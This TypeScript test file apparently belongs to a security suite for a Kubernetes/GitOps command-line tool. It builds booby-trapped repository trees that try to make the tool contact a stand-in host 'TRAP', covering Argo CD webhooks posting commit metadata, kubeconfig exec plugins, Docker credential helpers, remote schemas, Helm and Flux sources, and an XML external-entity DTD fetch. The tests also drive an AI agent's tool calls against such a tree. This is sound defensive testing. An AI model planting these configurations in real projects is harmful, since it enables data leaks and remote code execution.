import type { Call, CommandAttack } from '../command-attack.ts';
import {
  type Files,
  agent,
  app,
  attack,
  chart,
  each,
  editor,
  evil,
  freely,
  harmless,
  here,
  item,
  json,
  kustomization,
  map,
  quoted,
  red,
  seen,
  thing,
  tool,
} from './kit.ts';

const object = map('a', '{ a: b }');
const free = freely(json);
const server = () => ({ body: '{}' });

/** SECURITY.md: "make us connect to somewhere: no; --online … connect". Whoever asks TRAP has been led away. */
const trees: Readonly<Record<string, Files>> = {
  'updaters of images': {
    'apps/evil.yaml': app(`${here}, path: evil`).replace(
      'namespace: argocd }',
      'namespace: argocd, annotations: { argocd-image-updater.argoproj.io/image-list: "x=TRAP/a", argocd-image-updater.argoproj.io/write-back-method: "git:http://TRAP" } }',
    ),
    'evil/a.yaml': item(
      'ImageUpdater',
      'spec: { applicationRefs: [{ namePattern: "*", images: [{ alias: x, imageName: "TRAP/a:1" }] }] }',
      'argocd-image-updater.argoproj.io/v1alpha1',
    ),
  },
  'notifications and their webhooks': evil({
    'a.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: argocd-notifications-cm, namespace: argocd }\ndata: { service.webhook.x: ${quoted('url: http://TRAP\n')}, template.x: ${quoted('webhook: { x: { method: POST, path: /, body: "{{ call .repo.GetCommitMetadata }}" } }\n')}, trigger.x: ${quoted('- when: repo.GetAppDetails() != nil\n  send: [x]\n')} }\n`,
  }),
  'sources of Flux': evil({
    'a.yaml': ['GitRepository', 'HelmRepository', 'OCIRepository', 'Bucket']
      .map((kind) =>
        item(
          kind,
          'spec: { interval: 1m, url: "http://TRAP/x", endpoint: TRAP, bucketName: x, ref: { branch: main } }',
          'source.toolkit.fluxcd.io/v1',
          kind.toLowerCase(),
        ),
      )
      .join('---\n'),
  }),
  'packages of Crossplane and catalogs of OLM': evil({
    'a.yaml': `${item('Provider', 'spec: { package: "TRAP/p:v1" }', 'pkg.crossplane.io/v1')}---\n${item('CatalogSource', 'spec: { sourceType: grpc, image: "TRAP/c:1", address: "TRAP" }', 'operators.coreos.com/v1alpha1')}---\n${item('Subscription', 'spec: { source: a, name: x, channel: y }', 'operators.coreos.com/v1alpha1')}`,
  }),
  'a conversion, an API and webhooks by address': evil({
    'a.yaml': `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: xs.x.example.org }\nspec: { group: x.example.org, scope: Namespaced, names: { kind: X, plural: xs }, conversion: { strategy: Webhook, webhook: { conversionReviewVersions: [v1], clientConfig: { url: "http://TRAP" } } }, versions: [{ name: v1, served: true, storage: true, schema: { openAPIV3Schema: { $ref: "http://TRAP/x.json", type: object } } }] }\n---\n${item('ValidatingWebhookConfiguration', 'webhooks: [{ name: a.b.c, clientConfig: { url: "http://TRAP" }, admissionReviewVersions: [v1], sideEffects: None, rules: [{ apiGroups: ["*"], apiVersions: ["*"], resources: ["*"], operations: ["*"] }] }]', 'admissionregistration.k8s.io/v1')}`,
  }),
  'modes of an editor that name a schema': evil({
    'a.yaml': `# yaml-language-server: $schema=http://TRAP/a.json\n# $schema: http://TRAP/b.json\n${object}`,
  }),
  'a kubeconfig and logins of the tree': {
    ...harmless,
    kubeconfig:
      '{"apiVersion":"v1","kind":"Config","current-context":"c","contexts":[{"name":"c","context":{"cluster":"c","user":"u"}}],"clusters":[{"name":"c","cluster":{"server":"http://TRAP"}}],"users":[{"name":"u","user":{"exec":{"apiVersion":"client.authentication.k8s.io/v1","command":"evil"}}}]}',
    '.kube/config':
      'apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{ name: c, context: { cluster: c } }]\nclusters: [{ name: c, cluster: { server: "http://TRAP" } }]\n',
    '.docker/config.json':
      '{"auths":{"TRAP":{"auth":"eDp5"}},"credsStore":"evil","proxies":{"default":{"httpProxy":"http://TRAP"}}}',
    '.config/helm/repositories.yaml': 'repositories: [{ name: x, url: "http://TRAP" }]\n',
  },
  'large files and modules by address': {
    ...harmless,
    '.lfsconfig': '[lfs]\n\turl = http://TRAP/lfs\n',
    '.gitattributes': '*.yaml filter=lfs diff=lfs merge=lfs\n',
    'evil/big.yaml':
      'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n',
  },
  'a repository by ssh and by git': {
    'apps/evil.yaml': app('repoURL: "ssh://git@TRAP/x.git", targetRevision: HEAD, path: x'),
    'apps/evil2.yaml': app('repoURL: "git://TRAP/x.git", targetRevision: HEAD, path: x', '', 'evil2'),
    'apps/evil3.yaml': app('repoURL: "git@TRAP:x.git", targetRevision: HEAD, path: x', '', 'evil3'),
  },
  'a hydrator that draws and pushes': {
    'apps/evil.yaml':
      'apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: evil, namespace: argocd }\nspec: { project: default, sourceHydrator: { drySource: { repoURL: "http://TRAP/x.git", path: x, targetRevision: HEAD }, syncSource: { targetBranch: x, path: y }, hydrateTo: { targetBranch: z } }, destination: { server: "http://TRAP", namespace: x } }\n',
  },
  'charts of a kustomization from a registry': kustomization(
    'helmCharts: [{ name: a, repo: "oci://TRAP/x", version: 1.0.0 }, { name: b, repo: "http://TRAP", version: 1.0.0 }]\nresources: [a.yaml, "https://TRAP//x?ref=main&timeout=90s", "oci://TRAP/x:1"]\n',
    { 'a.yaml': object },
  ),
  'a dependency by the name of a repository': {
    ...chart({ 'a.yaml': object }),
    'evil/Chart.yaml':
      'apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies: [{ name: x, version: 1, repository: "@x" }, { name: y, version: 1, repository: "alias:x" }, { name: z, version: 1, repository: "oci://TRAP/z" }]\nsources: ["http://TRAP"]\nicon: http://TRAP/i.png\n',
    'evil/repositories.yaml': 'repositories: [{ name: x, url: "http://TRAP" }]\n',
  },
  'a schema that is another one elsewhere': {
    ...chart({ 'a.yaml': object }, 'a: 1\n'),
    'evil/values.schema.json':
      '{"$schema":"http://TRAP/schema","$id":"http://TRAP/id","$ref":"http://TRAP/x.json#/a","allOf":[{"$dynamicRef":"http://TRAP/y"}]}',
  },
  'targets and facts that are addresses': {
    ...harmless,
    'phineus.yaml':
      'schemas: ["http://TRAP/{group}/{kind}.json"]\nrepositories: { "http://TRAP/x.git": . }\n',
  },
  'plug-ins of sets and pull requests': {
    'apps/evil.yaml': `apiVersion: argoproj.io/v1alpha1\nkind: ApplicationSet\nmetadata: { name: evil, namespace: argocd }\nspec: { goTemplate: true, generators: [{ plugin: { configMapRef: { name: p } } }, { pullRequest: { gitea: { api: "http://TRAP", owner: x, repo: y } } }, { scmProvider: { azureDevOps: { api: "http://TRAP", organization: x, teamProject: y } } }, { clusterDecisionResource: { configMapRef: p, name: x } }], template: { metadata: { name: "x-{{ .name }}" }, spec: { project: default, source: { ${here}, path: evil }, destination: { server: "http://TRAP", namespace: x } } } }\n---\n${item('ConfigMap', 'data: { baseUrl: "http://TRAP", token: "$x:y" }', 'v1', 'p')}`,
  },
  'entities of a document': {
    ...harmless,
    'evil/x.xml':
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://TRAP/a.dtd" [<!ENTITY % b SYSTEM "http://TRAP/b"> %b;]><a/>',
    'evil/r.html': '<link rel=stylesheet href="http://TRAP"><img src="http://TRAP">',
  },
};

const commands: Readonly<Record<string, readonly string[]>> = {
  'a list of charts': ['charts', 'list', '.'],
  'an upgrade of a chart': ['upgrade', '.', '--to', 'a=2.0.0'],
  'an upgrade of a change': ['upgrade', '.', 'main'],
  'a record of fixes': ['report', 'fix-record', '.', '--base', 'main'],
  'an inventory as a page': ['report', 'inventory', '.', '-o', 'html'],
  'a cure of everything': ['fix', '.', '--all', '-o', 'github'],
  'a forecast of two versions': ['forecast', '.', '--kubernetes', '1.34', '--against', '1.33'],
  'a build of the kustomization': ['kustomize', 'build', 'evil', '--enable-helm', '--offline'],
};

export const network: readonly CommandAttack[] = [
  ...each(trees, (name, files) => attack(`network: ${name}`, files, { server, calls: [free] })),
  ...each(commands, (name, args) =>
    attack(
      `network: by ${name}`,
      {
        ...trees['charts of a kustomization from a registry'],
        'apps/c.yaml': app('repoURL: "http://TRAP", chart: a, targetRevision: 1.0.0', '', 'c'),
        'apps/o.yaml': app('repoURL: "TRAP/x", chart: a, targetRevision: 1.*', '', 'o'),
      },
      { server, calls: [{ args }] },
    ),
  ),
  attack(
    'network: a dump that names clusters, logins and repositories',
    {
      ...red,
      'dump/a.yaml': [
        thing(
          'Secret',
          `stringData: { name: x, server: "http://TRAP", config: ${quoted('{"bearerToken":"x","execProviderConfig":{"command":"evil"}}')} }`,
          'v1',
          'name: c, namespace: argocd, labels: { argocd.argoproj.io/secret-type: cluster }',
        ),
        thing(
          'Secret',
          'stringData: { url: "http://TRAP/x.git", proxy: "http://TRAP" }',
          'v1',
          'name: r, namespace: argocd, labels: { argocd.argoproj.io/secret-type: repository }',
        ),
        thing(
          'ConfigMap',
          `data: { url: "http://TRAP", oidc.config: ${quoted('issuer: http://TRAP\n')} }`,
          'v1',
          'name: argocd-cm, namespace: argocd',
        ),
        seen(
          'evil',
          '{ health: { status: Degraded }, summary: { externalURLs: ["http://TRAP"], images: ["TRAP/a:1"] } }',
        ),
      ].join('---\n'),
    },
    {
      server,
      calls: [
        { args: ['diagnose', 'dump'] },
        { args: ['diagnose', 'dump', '--repo', '.', '-o', 'json'] },
        { args: ['report', 'postmortem', '--snapshot', 'dump', '-o', 'html'] },
        { args: ['snapshot', 'dump', '-o', 'x.snapshot'], writes: ['x.snapshot'] },
        { args: ['check', '.', '--snapshot', 'dump', '-o', 'json'] },
        { args: ['fix', '.', '--all', '--diagnosed', 'dump'] },
      ] satisfies readonly Call[],
    },
  ),
  attack(
    'network: an editor over everything that names an address',
    trees['modes of an editor that name a schema'] ?? {},
    {
      server,
      calls: [
        editor(
          {
            method: 'textDocument/documentLink',
            params: { textDocument: { uri: 'file://TREE/evil/a.yaml' } },
          },
          {
            method: 'textDocument/hover',
            params: {
              textDocument: { uri: 'file://TREE/evil/a.yaml' },
              position: { line: 0, character: 40 },
            },
          },
        ),
      ],
    },
  ),
  attack(
    'network: an agent over everything that names an address',
    {
      'apps/c.yaml': app('repoURL: "http://TRAP", chart: a, targetRevision: 1.0.0', '', 'c'),
      ...kustomization('resources:\n- a.yaml\n# "http://TRAP/x.yaml"\n', { 'a.yaml': object }),
    },
    {
      server,
      calls: [
        agent(
          tool('check', {}),
          tool('forecast', {}),
          tool('propose_fix', { findings: ['render-failed'] }),
          tool('prove_fix', { changes: [{ file: 'evil/kustomization.yaml', find: '# ', replace: '- ' }] }),
        ),
      ],
    },
  ),
];
